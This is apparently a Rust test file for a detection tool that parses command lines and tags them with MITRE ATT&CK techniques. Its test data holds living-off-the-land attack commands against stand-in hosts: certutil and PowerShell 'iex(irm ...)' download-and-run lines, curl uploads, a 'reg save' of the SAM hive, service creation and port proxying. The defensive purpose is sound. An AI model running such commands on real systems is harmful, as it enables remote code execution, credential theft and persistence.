//! Command lines, each with the facts of it, by entries of each kind.
use super::*;
use crate::task::Exec;
use crate::work::Work;

const fn value(role: Role) -> Argument {
    Argument { role, parameter: 0, is_repeated: false, is_rest: false }
}

fn option(name: &str, role: Role) -> OptionSource {
    OptionSource { name: name.to_owned(), value: value(role) }
}

fn programs() -> Programs {
    let mut builder = Builder::default();
    let mut add = |names: &[&str], style: u16, common: FormSource, forms: Vec<FormSource>| {
        let names = names.iter().map(|&name| name.to_owned()).collect();
        builder.add(&ProgramSource { names, style, common, forms }).unwrap();
    };
    let library = Argument { parameter: parameter::ENTRY, ..value(Role::Library) };
    let common =
        FormSource { technique: "T1218.011".into(), arguments: vec![library], ..FormSource::default() };
    add(&["rundll32"], style::SLASH | style::DASH | style::BEFORE | style::SYSTEM, common, vec![]);
    add(&["shell32.dll"], style::SYSTEM, FormSource::default(), vec![]);
    let form = FormSource {
        conditions: vec![Condition::Option("urlcache".into())],
        technique: "T1105".into(),
        arguments: vec![value(Role::Address), value(Role::Output)],
        ..FormSource::default()
    };
    add(&["certutil"], style::SLASH | style::DASH | style::SYSTEM, FormSource::default(), vec![form]);
    let common = FormSource {
        options: vec![
            option("o", Role::Output),
            option("output", Role::Output),
            option("T", Role::Upload),
            option("H", Role::Text),
        ],
        arguments: vec![Argument { is_repeated: true, ..value(Role::Address) }],
        ..FormSource::default()
    };
    add(&["curl"], style::DASH | style::CASED | style::CLUSTERS | style::NEXT, common, vec![]);
    let common = FormSource {
        technique: "T1059.006".into(),
        options: vec![OptionSource {
            name: "c".into(),
            value: Argument { parameter: 5, ..value(Role::Code) },
        }],
        arguments: vec![value(Role::Script)],
        ..FormSource::default()
    };
    add(
        &["python"],
        style::DASH | style::CASED | style::CLUSTERS | style::NEXT | style::BEFORE,
        common,
        vec![],
    );
    let common = FormSource {
        options: vec![option("i", Role::Package), option("passive", Role::Flag), option("y", Role::Library)],
        technique: "T1218.007".into(),
        ..FormSource::default()
    };
    let style = style::SLASH | style::DASH | style::GLUED | style::NEXT;
    add(&["msiexec"], style, common, vec![]);
    let create = FormSource {
        conditions: vec![Condition::Word("create".into())],
        technique: "T1543.003".into(),
        options: vec![option("binpath=", Role::Command)],
        arguments: vec![value(Role::Service)],
    };
    add(&["sc"], style::COMPUTER | style::WORDS, FormSource::default(), vec![create]);
    let rest = Argument { is_rest: true, ..value(Role::Command) };
    let common = FormSource {
        options: vec![option("u", Role::Account)],
        arguments: vec![rest],
        ..FormSource::default()
    };
    let style = style::DASH | style::NEXT | style::COMPUTER | style::BEFORE;
    add(&["psexec"], style, common, vec![]);
    let copy = FormSource {
        arguments: vec![Argument { is_repeated: true, ..value(Role::Source) }, value(Role::Destination)],
        ..FormSource::default()
    };
    add(&["scp"], style::DASH, copy, vec![]);
    let portproxy = FormSource {
        conditions: vec![
            Condition::Word("interface".into()),
            Condition::Word("portproxy".into()),
            Condition::Word("add|set".into()),
        ],
        technique: "T1090.001".into(),
        ..FormSource::default()
    };
    add(&["netsh"], style::ABBREVIATED, FormSource::default(), vec![portproxy]);
    let sam = FormSource {
        conditions: vec![Condition::Word("save|export".into()), Condition::Like(r"*\sam".into())],
        technique: "T1003.002".into(),
        arguments: vec![value(Role::RegistryKey), value(Role::Output)],
        ..FormSource::default()
    };
    add(&["reg"], style::SLASH, FormSource::default(), vec![sam]);
    let copy = FormSource {
        arguments: vec![value(Role::Source), value(Role::Destination)],
        ..FormSource::default()
    };
    add(&["copy"], style::SLASH, copy, vec![]);
    let irm = FormSource {
        technique: "T1105".into(),
        options: vec![option("uri", Role::Address), option("outfile", Role::Output)],
        arguments: vec![value(Role::Address)],
        ..FormSource::default()
    };
    add(&["irm"], style::DASH | style::NEXT | style::ABBREVIATED | style::CMDLET, irm, vec![]);
    builder.finish()
}

fn facts(line: &str, folder: Option<&str>, work: &Work) -> Vec<String> {
    let (command, arguments) = line.split_once(' ').unwrap_or((line, ""));
    let exec = Exec {
        command: Some(command.to_owned()),
        arguments: Some(arguments.to_owned()),
        working_directory: folder.map(str::to_owned),
    };
    let processes = crate::read(&exec, &programs(), work);
    let facts = processes.list.iter().flat_map(|process| &process.facts.list);
    facts.map(|fact| format!("{:?} {}", fact.kind, fact.value)).collect()
}

/// The facts of each line, without those that follow from others.
#[test]
fn facts_follow_from_the_entry() {
    for (folder, line, expected) in [
        (None, r"rundll32 C:\x\a.dll,Start b", r"Runs C:\x\a.dll; Library C:\x\a.dll; Technique T1218.011"),
        (
            None,
            r#"rundll32.exe "C:\x y\a.dll",Start"#,
            r"Runs C:\x y\a.dll; Library C:\x y\a.dll; Technique T1218.011",
        ),
        (Some(r"C:\x"), "rundll32 a,Start", r"Runs C:\x\a.dll; Library C:\x\a.dll; Technique T1218.011"),
        (
            Some(r"C:\x"),
            "rundll32 shell32.dll,Control_RunDLL",
            r"Runs C:\Windows\System32\shell32.dll; Library C:\Windows\System32\shell32.dll; Technique T1218.011",
        ),
        (None, "rundll32 a.dll,Start", "Runs a.dll; Library a.dll; Technique T1218.011"),
        (None, "rundll32", ""),
        (
            None,
            r"certutil -urlcache -f -split HTTP://Host.example/a %PUBLIC%\a",
            r"Address http://host.example/a; Host host.example; Writes C:\Users\Public\a; Technique T1105",
        ),
        (None, "certutil /urlcache http://h/a", "Address http://h/a; Host h; Technique T1105"),
        (None, "certutil -crl", ""),
        (
            None,
            r"curl -k -s -H x:y host.example:81/a -o C:\a",
            r"Address http://host.example:81/a; Host host.example; Port 81; Writes C:\a",
        ),
        (
            None,
            r"curl -sSLoC:\a 203.0.113.7/a",
            r"Address http://203.0.113.7/a; Host 203.0.113.7; Writes C:\a",
        ),
        (
            None,
            r"curl --output a -T C:\b http://0x7f.1/",
            r"Address http://127.0.0.1/; Host 127.0.0.1; Writes a; Uploads C:\b",
        ),
        (
            None,
            r"python -u -c import\ os",
            r"Code import\; Language python; Script os; Runs os; Technique T1059.006",
        ),
        (None, r"python3.12.exe C:\a.py -c x", r"Runs C:\a.py; Script C:\a.py; Technique T1059.006"),
        (
            None,
            r"msiexec /qn /iC:\ProgramData\a.msi /passive",
            r"Runs C:\ProgramData\a.msi; Package C:\ProgramData\a.msi; Technique T1218.007",
        ),
        (
            None,
            r"msiexec -I hTTps:\\Host\a.msi",
            "Runs https://host/a.msi; Address https://host/a.msi; Host host; Package https://host/a.msi; Technique T1218.007",
        ),
        (
            None,
            r"msiexec /y \\host@8080\a\b.dll",
            r"Runs \\host@8080\a\b.dll; Address http://host:8080/a/b.dll; Host host; Port 8080; Library \\host@8080\a\b.dll; Technique T1218.007",
        ),
        (
            None,
            r"sc \\DC01 create svc binPath= C:\a.exe",
            r"Command C:\a.exe; Computer dc01; Service svc; Technique T1543.003; Runs C:\a.exe",
        ),
        (
            None,
            r"sc create svc binpath=C:\a.exe",
            r"Command C:\a.exe; Service svc; Technique T1543.003; Runs C:\a.exe",
        ),
        (
            None,
            r"psexec \\a,B -s -u x C:\a.exe -u y",
            r"Computer a; Computer b; Account x; Command C:\a.exe -u y; Runs C:\a.exe",
        ),
        (
            None,
            r"scp C:\a C:\b u@host:/x",
            "Uploads C:\\a; Uploads C:\\b; Computer host; Address ssh://host/x; Host host",
        ),
        (None, r"scp host:x C:\b", "Computer host; Address ssh://host/x; Host host; Writes C:\\b"),
        (None, "netsh i p a v4tov4", "Technique T1090.001"),
        (None, "netsh int portp set v4tov4", "Technique T1090.001"),
        (None, "netsh interface portproxy show", ""),
        (
            None,
            r"reg save HKEY_LOCAL_MACHINE\SAM C:\a",
            r"RegistryKey HKLM\SAM; Writes C:\a; Technique T1003.002",
        ),
        (None, r"reg save HKLM\SAMPLE C:\a", ""),
        (None, r"C:\x\unknown.exe -o C:\a", ""),
    ] {
        let mut found = facts(line, folder, &Work::unlimited());
        assert!(found.first().is_some_and(|fact| fact.starts_with("Runs ")), "{line}: the program itself");
        found.remove(0);
        let mut expected: Vec<&str> = expected.split("; ").filter(|fact| !fact.is_empty()).collect();
        let mut sorted: Vec<&str> = found.iter().map(String::as_str).collect();
        expected.sort_unstable();
        sorted.sort_unstable();
        assert_eq!(sorted, expected, "{line}");
    }
}

/// A shell's own actions belong to it: its built-in commands, its redirections and its cmdlets.
#[test]
fn facts_of_shells() {
    for (line, expected) in [
        (r"cmd /c copy /y C:\a C:\b", r"Reads C:\a; Writes C:\b; Technique T1059.003"),
        (
            r#"cmd /c "cd /d C:\x & copy a b & ver > c""#,
            r"Reads C:\x\a; Writes C:\x\b; Writes C:\x\c; Technique T1059.003",
        ),
        (r#"cmd /c copy "C:\x y\" C:\b"#, r"Reads C:\x y; Writes C:\b; Technique T1059.003"),
        ("cmd /c ver > nul", "Technique T1059.003"),
        (
            "powershell -c iex(irm h.example/a)",
            "Address http://h.example/a; Host h.example; Technique T1105; Code iex(irm h.example/a); Language powershell; Technique T1059.001",
        ),
        (
            r"powershell $x=IRM('https://h/a') -o C:\b;calc",
            r"Address https://h/a; Host h; Writes C:\b; Technique T1105; Code $x=IRM('https://h/a') -o C:\b;calc; Language powershell; Technique T1059.001",
        ),
        ("powershell -c 'irm h/a'", "Code 'irm h/a'; Language powershell; Technique T1059.001"),
        ("powershell -c copy a b", "Code copy a b; Language powershell; Technique T1059.001"),
        (r"powershell -file C:\a.ps1", r"Runs C:\a.ps1; Script C:\a.ps1; Technique T1059.001"),
    ] {
        let (command, arguments) = line.split_once(' ').unwrap();
        let exec = Exec {
            command: Some(command.into()),
            arguments: Some(arguments.into()),
            working_directory: None,
        };
        let first = crate::read(&exec, &programs(), &Work::unlimited()).list.swap_remove(0);
        let found = first.facts.list.iter().skip(1).map(|fact| format!("{:?} {}", fact.kind, fact.value));
        let mut found: Vec<String> = found.collect();
        found.sort_unstable();
        let mut expected: Vec<&str> = expected.split("; ").collect();
        expected.sort_unstable();
        assert_eq!(found, expected, "{line}");
    }
}

#[test]
fn the_program_itself_is_what_runs() {
    for (folder, line, path) in [
        (None, "certutil.exe", r"C:\Windows\System32\certutil.exe"),
        (None, "cmd", r"C:\Windows\System32\cmd.exe"),
        (None, "powershell -c x", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        (Some(r"%APPDATA%\x"), "update.exe", r"C:\Users\%USERNAME%\AppData\Roaming\x\update.exe"),
        (Some(r"C:\x"), r"y\..\a.exe", r"C:\x\a.exe"),
        (None, "update.exe", "update.exe"),
        (Some(r"C:\x"), "certutil.exe", r"C:\Windows\System32\certutil.exe"),
    ] {
        let found = facts(line, folder, &Work::unlimited());
        assert_eq!(found.first().map(String::as_str), Some(&*format!("Runs {path}")), "{line}");
    }
}

#[test]
fn without_work_nothing_is_invented() {
    let line = format!("curl {}", "-o x ".repeat(200));
    let mut last = 0;
    for units in (0..2_000_000).step_by(50_000) {
        let found = facts(&line, None, &Work::new(units)).len();
        assert!(found >= last.min(1) && found <= 2, "{units}: {found}");
        last = found;
    }
    assert_eq!(last, 2);
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// Bytes that no compiler wrote are read to an end, too.
        #[test]
        fn any_entry_and_any_line_are_read(
            entries in prop::collection::vec(any::<u8>(), 0..200),
            texts in prop::collection::vec(any::<u8>(), 0..200),
            place in any::<u16>(),
            line in r#"[-/a-z:=,"\\@* ]{0,80}|.{0,40}"#,
        ) {
            let mut programs = programs();
            programs.entries = entries;
            programs.texts.extend(texts);
            for (_, entry) in &mut programs.names {
                *entry = place % 200;
            }
            for name in ["certutil", "rundll32", "sc"] {
                let exec = Exec { command: Some(name.into()), arguments: Some(line.clone()), working_directory: None };
                let processes = crate::read(&exec, &programs, &Work::new(crate::work::RECORD));
                prop_assert!(processes.list.iter().all(|process| process.facts.list.len() <= 64));
            }
        }

        /// Facts come from the arguments: their size is linear in that of the line.
        #[test]
        fn facts_are_no_larger_than_their_line(
            name in "rundll32|certutil|curl|python|msiexec|sc|psexec|scp|reg|netsh",
            words in prop::collection::vec(r"-[oTcui]|/i|C:\\[ab.]{1,9}|http://h/[a-z]{1,40}|[a-z=,@:]{1,20}", 0..60),
        ) {
            let arguments = words.join(" ");
            let exec = Exec { command: Some(name), arguments: Some(arguments.clone()), working_directory: Some(r"C:\w".into()) };
            let first = crate::read(&exec, &programs(), &Work::unlimited()).list.swap_remove(0);
            let size: usize = first.facts.list.iter().map(|fact| fact.value.len()).sum();
            prop_assert!(size <= 1_000 + arguments.len() * 8, "{size} of {}", arguments.len());
        }
    }
}
